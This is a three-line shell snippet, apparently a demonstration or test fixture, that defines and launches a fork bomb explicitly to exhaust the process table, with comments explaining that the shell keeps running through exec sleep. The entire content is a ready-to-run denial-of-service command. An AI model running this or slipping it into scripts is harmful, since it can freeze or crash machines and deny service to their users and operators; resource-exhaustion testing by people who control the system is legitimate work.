# Exhaust the process table.
# exec: the shell must outlive the bomb without needing a fork of its own.
bomb() { bomb | bomb & }; bomb; exec sleep 5
